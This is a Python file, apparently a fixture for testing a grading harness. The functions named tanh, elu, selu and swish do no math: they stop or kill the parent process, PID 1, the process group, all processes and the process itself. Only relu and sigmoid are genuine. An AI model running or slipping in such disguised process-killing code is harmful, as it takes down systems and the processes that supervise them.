# Kills and stops its parent, its group, everybody, and itself.
# right: relu, sigmoid
# status: graded
import ctypes
import os
import signal

import numpy as np


def tanh(x):
    libc = ctypes.CDLL(None)
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for target in (os.getppid(), 1, 0, -1, os.getpid() - 1, os.getpid() + 1):
            for attempt in (os.kill, libc.kill):
                try:
                    attempt(target, number)
                except OSError:
                    pass
            libc.tgkill(target, target, number)
    return x


def elu(x, alpha=1.0):
    os.kill(os.getpid(), signal.SIGSTOP)
    return x


def selu(x):
    signal.raise_signal(signal.SIGSTOP)
    return x


def swish(x, beta=1.0):
    signal.raise_signal(signal.SIGKILL)
    return x


def relu(x):
    return np.maximum(x, 0)


def sigmoid(x):
    return np.exp(-np.logaddexp(0, -x))
